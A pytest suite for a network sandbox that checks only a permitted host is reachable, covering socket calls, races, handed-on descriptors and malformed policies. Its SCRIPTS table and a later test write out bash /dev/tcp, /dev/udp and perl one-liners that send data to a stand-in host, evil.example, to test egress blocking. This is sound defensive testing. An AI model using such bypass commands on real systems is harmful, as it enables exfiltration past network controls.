"""Nothing leaves but what a rule permits, whatever calls a program makes (E34, E37, E40).

Each attempt runs natively first and has to arrive there; then it runs under a policy that permits
one host, good.example, and is about another one, evil.example.
"""

import os
import socket
import time

import pytest

from connected import escaped, results
from harness import attempts, line_of, wait_until

PORT = 443
AT_ONCE = 30  # seconds, start and all: no attempt may wait for anything

FAST_OPEN = ("fast-open-sendto", "fast-open-sendmsg", "fast-open-sendmmsg")
TCP = ("tcp", "tcp-nonblocking", "mptcp", "bound-first", "long-address", *FAST_OPEN,
       "fast-open-connect")
UDP = ("udp-connect", "udp-sendto", "udp-sendmsg", "udp-sendmmsg", "udp-segments", "udp-zero-copy",
       "udp-confirm-probe", "udp-other-family")
SECOND = ("dissolved", "dissolved-sendto")  # TCP, from a permitted peer to another
HANDED_ON = ("dup-refused", "dup-dissolved", "fork-after", "pass-connected", "pass-fresh",
             "take-by-pidfd")
KEPT = ("dup-before", "by-thread", "by-shared-descriptors", "pass-and-say")
LISTENERS = ("listen-after-dissolving", "bind-after-dissolving", "listen-after-refusal",
             "bind-after-refusal", "listen-after-the-end", "datagrams-after-dissolving")


@pytest.fixture
def good(out):
    return out.oracle("good.example", PORT)


@pytest.fixture
def evil(out):
    return out.oracle("evil.example", PORT)


def only_good(world, good):
    """A policy: good.example by its name and by its addresses."""
    return world.rules(f"{good.name}:{PORT}", *(
        f"[{address}]:{PORT}" if ":" in address else f"{address}:{PORT}"
        for address in good.addresses))


def to(*addresses):
    return ",".join(f"{address}/{PORT}" for address in addresses)


def under_aegis(world, good, argv):
    """Runs; nothing may wait for what does not come."""
    began = time.monotonic()
    done = world.run(argv, policy=only_good(world, good))
    assert time.monotonic() - began < AT_ONCE
    return done


# ---- Calls that reach a peer (E34)


def test_no_call_reaches_what_is_not_permitted(connected, out, good, evil):
    words = [f"{way}={to(address)}" for way in TCP + UDP for address in evil.addresses]
    words.append(f"udp-unspecified={to(evil.address)}")
    knock = connected.program("knock.c")
    native = results(connected.native([knock, *words]).ok())
    assert set(native.values()) == {"ok"}, native
    reached = evil.records()
    assert len(reached) >= len(words) and b"CANARY" in evil.data()
    evil.forget()
    out.tap()
    got = results(under_aegis(connected, good, [knock, *words]))
    assert evil.records() == [] and escaped(out) == []
    # The kernel takes AF_UNSPEC for IPv4, and has no way to that address inside.
    assert got.pop(words[-1]) in ("EACCES", "ENETUNREACH")
    assert got == dict.fromkeys(words[:-1], "EACCES"), got
    refused = [entry for entry in connected.connections("deny")
               if not entry["resource"].startswith("socket:")]  # of a kind that is refused whole
    assert {entry["resource"] for entry in refused} == {
        f"{evil.address}:{PORT}", f"[{evil.address6}]:{PORT}"}
    assert {entry["context"]["protocol"] for entry in refused} == {"tcp", "udp"}
    assert {(entry["context"]["host"], entry["context"]["port"]) for entry in refused} == {
        (address, PORT) for address in evil.addresses}
    assert len(connected.refused()) >= len(words) - 1


def test_messages_that_connect_are_not_supported(connected, good):
    """MSG_FASTOPEN: programs go on with connect(2), as where the machine has none of it."""
    words = [f"{way}={to(address)}" for way in FAST_OPEN for address in good.addresses]
    got = results(under_aegis(connected, good, [connected.program("knock.c"), *words]))
    assert got == dict.fromkeys(words, "EOPNOTSUPP"), got
    assert good.records() == []
    assert {entry["reason"] for entry in connected.connections("deny")} == {"UNSUPPORTED"}


def test_the_same_calls_reach_what_is_permitted(connected, good):
    words = [f"{way}={to(address)}" for way in TCP if way not in ("mptcp", *FAST_OPEN)
             for address in good.addresses]
    knock = connected.program("knock.c")
    got = results(under_aegis(connected, good, [knock, *words]))
    assert got == dict.fromkeys(words, "ok"), got
    assert good.data() == [b"CANARY"] * len(words)
    assert {record["at"] for record in good.records()} == set(good.addresses)
    assert connected.refused() == []
    assert len(connected.allowed()) == len(words)
    contexts = connected.ended()
    for address in (f"{good.address}:{PORT}", f"[{good.address6}]:{PORT}"):
        assert contexts[address]["bytes_sent"] == len("CANARY"), contexts
        assert contexts[address]["bytes_received"] == 0
        assert contexts[address]["duration_ms"] >= 0


def test_a_socket_goes_from_the_permitted_peer_to_no_other(connected, out, good, evil):
    words = [f"{way}={to(good.addresses[family], evil.addresses[family])}"
             for way in SECOND for family in (0, 1)]
    words += [f"{way}={to(good.address, evil.address)}"
              for way in ("udp-sendmmsg", "udp-elsewhere", "dissolved-udp")]
    knock = connected.program("knock.c")
    native = results(connected.native([knock, *words]).ok())
    assert set(native.values()) == {"ok"}, native
    assert len(evil.records()) == len(words)
    evil.forget()
    out.tap()
    got = results(under_aegis(connected, good, [knock, *words]))
    assert evil.records() == []
    assert not [packet for packet in escaped(out) if packet["target"] in evil.addresses]
    assert "ok" not in got.values(), got


def test_after_a_refusal_a_socket_is_as_before(connected, good, evil):
    """It is refused again, and connects where it may."""
    knock = connected.program("knock.c")
    words = [f"again={to(evil.address, evil.address)}", f"again={to(evil.address, good.address)}",
             f"again={to(evil.address6, good.address6)}"]
    got = results(under_aegis(connected, good, [knock, *words]))
    assert list(got.values()) == ["EACCES", "ok", "ok"], got
    assert evil.records() == [] and good.data() == [b"CANARY"] * 2


@pytest.mark.root  # sets options that the kernel gives to nobody else
def test_options_do_not_route_by_way_of_another_host(connected, out, good, evil):
    words = [f"{way}={to(good.address, evil.address)}"
             for way in ("source-route", "source-route-udp", "source-route-message")]
    knock = connected.program("knock.c")

    def passing():
        return [packet for packet in out.packets() if packet.get("target") == evil.address]
    out.tap()
    connected.native([knock, *words]).ok()
    seen = len(passing())
    assert seen >= len(words)
    under_aegis(connected, good, [knock, *words])
    assert len(passing()) == seen


def test_everything_at_once_is_refused(connected, out, good):
    """Broadcast and multicast."""
    words = [f"udp-broadcast={address}" for address in
             ("255.255.255.255/443", "224.0.0.251/5353", "45.67.113.255/443")]
    knock = connected.program("knock.c")
    out.tap()
    assert set(results(connected.native([knock, *words])).values()) == {"ok"}
    seen = escaped(out)
    assert len(seen) == len(words)
    got = results(under_aegis(connected, good, [knock, *words]))
    assert escaped(out) == seen
    assert set(got.values()) == {"EACCES"}, got


def test_datagrams_to_a_permitted_host(connected, out, good):
    """They arrive or are refused; in neither case without a record, and never elsewhere."""
    words = [f"{way}={to(good.address)}" for way in UDP]
    knock = connected.program("knock.c")
    got = results(under_aegis(connected, good, [knock, *words]))
    assert set(got.values()) <= {"ok", "EACCES"}, got
    arrived = [way for way, result in got.items() if result == "ok"]
    assert bool(good.records()) == bool(arrived)
    assert set(good.data()) <= {b"CANARY"}
    resource = f"{good.address}:{PORT}"
    assert set(connected.allowed() + connected.refused()) == {resource}
    assert bool(connected.allowed()) == bool(arrived)
    assert {entry["context"]["protocol"] for entry in connected.connections()} == {"udp"}
    assert out.asked() == []


def test_families_and_protocols_beside_tcp_and_udp(connected, out, good, evil, is_root):
    sent = ["ping", "udp-lite"] + (["raw-icmp"] if is_root else [])
    words = [f"{way}={to(address)}" for way in sent for address in evil.addresses]
    words += [f"{way}={to(evil.address)}"
              for way in ["ping-connected"] + (["raw-ip", "packet"] if is_root else [])]
    nowhere = [f"{way}={to(evil.address)}" for way in ("sctp", "sctp-packets", "dccp", "vsock")]
    program = connected.program("odd_sockets.c")
    out.tap()
    native = results(connected.native([program, *words]).ok())
    assert set(native.values()) == {"ok"}, native
    seen = escaped(out)
    assert len([packet for packet in seen if packet["target"] in evil.addresses]) >= len(words)
    got = results(under_aegis(connected, good, [program, *words, *nowhere]))
    assert escaped(out) == seen
    assert "ok" not in got.values() and len(got) == len(words + nowhere), got


def test_netlink_tells_of_ones_own_interfaces_only(connected, good):
    refused = [f"netlink-{name}" for name in ("generic", "netfilter", "diag", "xfrm", "uevent",
                                              "audit")]
    program = connected.program("odd_sockets.c")
    native = results(connected.native([program, "netlink-route", "netlink-diag", "io-uring"]).ok())
    assert native == {"netlink-route": "ok", "netlink-diag": "ok", "io-uring": "ok"}
    got = results(under_aegis(connected, good, [program, *refused, "io-uring", "netlink-route"]))
    assert got.pop("netlink-route") == "ok"
    assert "ok" not in got.values(), got


# ---- Programs that ignore what they are told


SCRIPTS = {
    "no environment": "env -i {knock} tcp={evil}/443",
    "bash": "exec 3<>/dev/tcp/{evil}/443 && echo CANARY >&3",
    "bash by UDP": "echo CANARY > /dev/udp/{evil}/443",
    "proxies unset": "env -u http_proxy -u HTTPS_PROXY -u ALL_PROXY {knock} tcp={evil}/443",
    "perl": "perl -MIO::Socket::INET -e "
            "'IO::Socket::INET->new(\"{evil}:443\")->print(\"CANARY\") or die'",
}


def test_programs_that_know_of_no_proxy(connected, out, good, evil, needs):
    needs("bash", "perl")
    knock = connected.program("knock.c")
    for name, script in SCRIPTS.items():
        words = ["bash", "-c", script.format(knock=knock, evil=evil.address)]
        connected.native(words).ok()
        assert b"CANARY" in evil.data()[-1], name
        evil.forget()
        done = under_aegis(connected, good, words)
        assert evil.records() == [], name
        assert "ok" not in done.text and (done.code != 0 or "EACCES" in done.text), name
        twin = ["bash", "-c", script.format(knock=knock, evil=good.address)]
        if name != "bash by UDP":
            assert under_aegis(connected, good, twin).ok() and b"CANARY" in good.data()[-1], name
    assert set(connected.refused()) == {f"{evil.address}:{PORT}"}
    assert out.asked() == []


# ---- Sockets that change hands


def test_sockets_that_are_handed_on(connected, good, evil):
    words = [f"{way}={to(good.addresses[family], evil.addresses[family])}"
             for way in HANDED_ON for family in (0, 1)]
    program = connected.program("handed_on.c")
    connected.native([program, *words]).ok()
    assert len(evil.records()) >= len(words)
    evil.forget()
    got = results(under_aegis(connected, good, [program, *words]))
    assert evil.records() == []
    assert len(got) == len(words) and "ok" not in got.values(), got


def test_a_permitted_socket_works_in_other_hands(connected, good):
    words = [f"{way}={to(address)}" for way in KEPT for address in good.addresses]
    program = connected.program("handed_on.c")
    native = results(connected.native([program, *words]).ok())
    assert set(native.values()) == {"ok"}, native
    assert good.data() == [b"CANARY"] * len(words)
    good.forget()
    got = results(under_aegis(connected, good, [program, *words]))
    assert got == native
    assert good.data() == [b"CANARY"] * len(words)


def test_another_process_s_socket_stays_as_it_was(connected, good):
    """Of a socket that processes share before it is connected, only the one that connects has the
    connection: the others keep the socket of the run's own network."""
    words = [connected.program("handed_on.c"), *(f"fork-before={to(one)}" for one in good.addresses)]
    assert set(results(connected.native(words).ok()).values()) == {"ok"}
    got = results(under_aegis(connected, good, words))
    assert set(got.values()) == {"EPIPE"}, got


def test_a_child_that_outlives_its_parent(connected, good, evil):
    program = connected.program("handed_on.c")
    words = [program, f"outlive={to(good.address, evil.address)}"]
    connected.native(words).ok()
    wait_until(lambda: evil.data() == [b"CANARY"], "the child goes on")
    evil.forget()
    # The shell stays for longer than the child waits.
    script = f"{words[0]} {words[1]}; sleep 1"
    under_aegis(connected, good, ["sh", "-c", script]).ok()
    time.sleep(0.5)
    assert evil.records() == []
    assert connected.refused() == [f"{evil.address}:{PORT}"]


# ---- No listener outside (E40)


@pytest.mark.parametrize("way", LISTENERS)
def test_a_socket_from_outside_never_listens_there(connected, out, good, evil, way):
    word = f"{way}={to(good.address, evil.address)}"
    program = connected.program("handed_on.c")
    for launch, leaks in ((connected.start, True), (only_good_start(connected, good), False)):
        before = out.listening()
        process = launch([program, word], stdin=-1)
        line = line_of(process)
        new = out.listening() - before
        assert line == b"listens\n" if leaks else line
        assert bool(new) == leaks, (line, new)
        process.communicate(timeout=60)


def only_good_start(world, good):
    policy = only_good(world, good)
    return lambda argv, **options: world.start(world.run_words(argv, policy), **options)


def test_nobody_comes_in_from_outside(connected, out, good):
    """A program may listen, which only programs inside reach."""
    program = connected.program("handed_on.c")
    inviting = [program, "listen-at-once=0.0.0.0/8080"]
    knocking = [connected.program("knock.c"), f"tcp={good.address}/8080", "tcp=127.0.0.1/8080"]
    for launch, result in ((connected.start, "ok"),
                           (only_good_start(connected, good), "ECONNREFUSED")):
        process = launch(inviting, stdin=-1)
        assert line_of(process) == b"listens\n"
        assert set(results(connected.native(knocking)).values()) == {result}
        process.communicate(timeout=60)
    inside = f"{inviting[0]} {inviting[1]} < hold & exec 3> hold; " \
             f"until {knocking[0]} tcp=127.0.0.1/8080 | grep ok; do sleep 0.1; done"
    os.mkfifo(connected.project / "hold")
    under_aegis(connected, good, ["bash", "-c", inside]).ok()
    assert out.asked() == []


# ---- Sockets that were outside already

SECOND_CALL = """
import ctypes, errno, select, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
permitted, dead, refused = (int(word) for word in sys.argv[2:])

def connect(one, port, family=socket.AF_INET):
    packed = struct.pack("=H", family) + struct.pack("!H", port) + socket.inet_aton("127.0.0.1") + bytes(8)
    return "ok" if libc.connect(one.fileno(), packed, 16) == 0 else errno.errorcode[ctypes.get_errno()]

def reached(one):
    try:
        return one.getpeername()[1]
    except OSError as error:
        return errno.errorcode[error.errno]

one = socket.socket()
if sys.argv[1] == "dissolved":
    print(connect(one, permitted), connect(one, 0, socket.AF_UNSPEC), connect(one, refused), reached(one))
elif sys.argv[1] == "after a failure":
    one.setblocking(False)
    print(connect(one, dead))
    select.select([], [one], [], 5)
    print(*(connect(one, refused) for _ in range(3)), reached(one))
else:
    one.setblocking(False)
    said = []
    for _ in range(4):
        said.append(connect(one, dead))
        select.select([], [one], [], 5)
    print(*said)
"""


@pytest.mark.parametrize("how, answers", [
    ("dissolved", "ok ok ECONNREFUSED ENOTCONN\n"),
    ("after a failure", "EINPROGRESS\nECONNREFUSED ECONNREFUSED ECONNREFUSED ENOTCONN\n")])
def test_the_host_s_loopback_stays_refused_to_a_socket_from_outside(connected, out, how, answers):
    """The refused port is never connected to, whatever the socket was connected to before."""
    out.serve("greet", "the host", 41001, ["127.0.0.1"])
    secret = out.serve("greet", "the host", 41002, ["127.0.0.1"])
    words = ["/usr/bin/python3", "-c", SECOND_CALL, how, "41001", "41009", "41002"]
    assert answers not in connected.native(words).ok().text
    assert secret.records() != []
    secret.forget()
    done = connected.run_with(["127.0.0.1:41001", "127.0.0.1:41009"], words).ok()
    assert done.text == answers and secret.records() == []
    assert "127.0.0.1:41002" in connected.refused()


def test_a_second_connect_says_how_the_first_one_ended(connected, out):
    words = ["/usr/bin/python3", "-c", SECOND_CALL, "again", "1", "41009", "1"]
    native = connected.native(words).ok().text
    assert native.startswith("EINPROGRESS ECONNREFUSED EINPROGRESS")
    assert connected.run_with(["127.0.0.1:41009"], words).ok().text == native
    assert len(connected.allowed()) == 2  # each that began is decided


def test_a_name_for_the_unspecified_address_is_judged_as_loopback(connected, out):
    """0.0.0.0 is the machine itself: no rule for 0.0.0.0 opens what is closed at 127.0.0.1."""
    secret = out.serve("greet", "the host", 41002, ["127.0.0.1"])
    out.resolves("zero.example", A=["0.0.0.0"])
    words = ["/usr/bin/python3", "-c", "import socket\n"
             "print(socket.create_connection(('zero.example', 41002)).recv(4))"]
    connected.native(words).ok()
    secret.forget()
    rules = ["zero.example", "0.0.0.0/0:41002"]
    closed = ('forbid(principal, action == Aegis::Action::"NetConnect", '
              'resource in Aegis::Resource::"127.0.0.0/8");\n')
    done = connected.run(words, policy=connected.rules(*rules, more=closed))
    assert done.code != 0 and secret.records() == []
    assert "127.0.0.1:41002" in connected.refused()
    connected.run_with(["zero.example", "127.0.0.1:41002"], words).ok()


# ---- Races


ADDRESS_RACES = ("address-connect", "address-fast-open", "address-fast-open-message",
                 "address-sendto", "address-sendmsg", "address-sendmmsg", "address-udp-connect")
DESCRIPTOR_RACES = ("descriptor-connect", "descriptor-nonblocking", "descriptor-message")
ROUNDS = 3000
TRIES = 20


def raced(world, out, start, mode, good, evil):
    """How many rounds went well, and which listeners stood outside then."""
    before = out.listening()
    process = start([world.program("net_race.c"), mode, str(ROUNDS), to(good.address),
                     to(evil.address)], stdin=-1)
    line = line_of(process)
    listeners = out.listening() - before
    _, errors = process.communicate(timeout=60)
    assert line, errors
    return int(line), listeners


@pytest.mark.parametrize("mode", ADDRESS_RACES)
def test_an_address_that_changes_under_the_call(connected, out, good, evil, mode):
    for _ in range(TRIES):  # the native race is one, too
        raced(connected, out, connected.start, mode, good, evil)
        if evil.records() and good.records():
            break
    assert evil.records() and good.records()
    evil.forget()
    good.forget()
    well, listeners = raced(connected, out, only_good_start(connected, good), mode, good, evil)
    assert evil.records() == [] and not listeners
    assert len(connected.refused()) + len(connected.allowed()) >= ROUNDS
    if mode in ("address-connect", "address-fast-open", "address-fast-open-message"):
        assert len(good.records()) >= well  # each one was with the permitted peer


@pytest.mark.parametrize("mode", DESCRIPTOR_RACES)
def test_a_descriptor_that_changes_under_the_call(connected, out, good, evil, mode):
    listeners = set()
    for _ in range(TRIES):
        listeners |= raced(connected, out, connected.start, mode, good, evil)[1]
        if evil.records() and listeners:
            break
    assert evil.records() and listeners
    evil.forget()
    out.watch_listeners()
    _, listeners = raced(connected, out, only_good_start(connected, good), mode, good, evil)
    assert evil.records() == []
    assert not listeners and out.new_listeners() == []


# ---- Policies that permit nothing (E37)


def closed_policies(world):
    """Policy files that open no network: an empty list of hosts, and other hosts."""
    forbid = 'forbid(principal, action == Aegis::Action::"NetConnect", resource);'
    return {"no rule": world.rules().read_text(),
            "another": world.rules("other.example").read_text(),
            "a forbid": world.rules("evil.example", more=forbid).read_text()}


def test_an_empty_list_of_hosts_permits_none(connected, out, evil):
    knock = connected.program("knock.c")
    words = [f"{way}={to(address)}" for way in ("tcp", "udp-sendto") for address in evil.addresses]
    policy = connected.outside / "closed.cedar"
    for name, text in closed_policies(connected).items():
        policy.write_text(text)
        got = results(connected.run([knock, *words], policy=policy).ok())
        assert set(got.values()) == {"EACCES"}, (name, got)
        done = attempts(connected, lambda argv: connected.run(argv, policy=policy),
                        [("resolve", "evil.example")])
        assert done != ["ok"], name
    assert evil.records() == [] and out.asked() == []
    assert connected.allowed() == [] and len(connected.refused()) >= 9


def test_the_templates_open_no_network(connected, out, evil):
    knock = connected.program("knock.c")
    for template in ("project", "allow-read-only"):
        got = results(connected.run([knock, f"tcp={to(evil.address)}"], policy=template))
        assert set(got.values()) <= {"EACCES"}, template
    assert evil.records() == [] and out.asked() == []


@pytest.mark.parametrize("how", ["missing", "invalid", "a directory", "half"])
def test_without_a_valid_policy_nothing_runs(connected, evil, how):
    path = connected.outside / "policy.cedar"
    text = connected.rules("evil.example:443").read_text()
    if how == "invalid":
        path.write_text(text + 'permit(principal, action == Aegis::Action::"NetConect", resource);')
    elif how == "half":
        path.write_text(text[:-20])
    elif how == "a directory":
        path.mkdir()
        (path / "not-a-policy").write_text("permit(")
        (path / "broken.cedar").write_text("permit(")
    knock = connected.program("knock.c")
    assert connected.run([knock, f"tcp={to(evil.address)}"], policy=path).code == 125
    assert evil.records() == []


@pytest.mark.user  # root reads it all the same
def test_without_a_readable_policy_nothing_runs(connected, evil):
    path = connected.rules(f"{evil.address}:443")
    path.chmod(0)
    knock = connected.program("knock.c")
    assert connected.run([knock, f"tcp={to(evil.address)}"], policy=path).code == 125
    assert evil.records() == []


@pytest.mark.parametrize("rule", ["evil.example:https", "EVIL.example", "*", "*:*", "https://evil",
                                  "evil.example:0", "evil.example:65536", "45.67.113.0/33",
                                  "*evil.example", "evil.example\\u{0}.good.example",
                                  "2a0f:db8::/129"])
def test_a_rule_that_names_no_host_is_refused(connected, evil, rule):
    policy = connected.rules(rule)
    knock = connected.program("knock.c")
    done = connected.run([knock, f"tcp={to(evil.address)}"], policy=policy)
    assert done.code == 125, done.text + done.err_text
    assert evil.records() == []


def test_sockets_of_the_caller_are_no_way_out(connected, out, good, evil):
    """A descriptor inherited from outside is not passed on."""
    script = f"exec 7<>/dev/tcp/{evil.address}/443; "
    use = "echo CANARY >&7"
    connected.native(["bash", "-c", script + use]).ok()
    assert evil.data() == [b"CANARY\n"]
    evil.forget()
    inside = " ".join(map(str, connected.run_words(["bash", "-c", f"'{use}'"],
                                                   only_good(connected, good))))
    done = connected.native(["bash", "-c", script + inside])
    assert done.code != 0 and evil.data() == [b""]
    assert socket.inet_aton(evil.address) and out.asked() == []
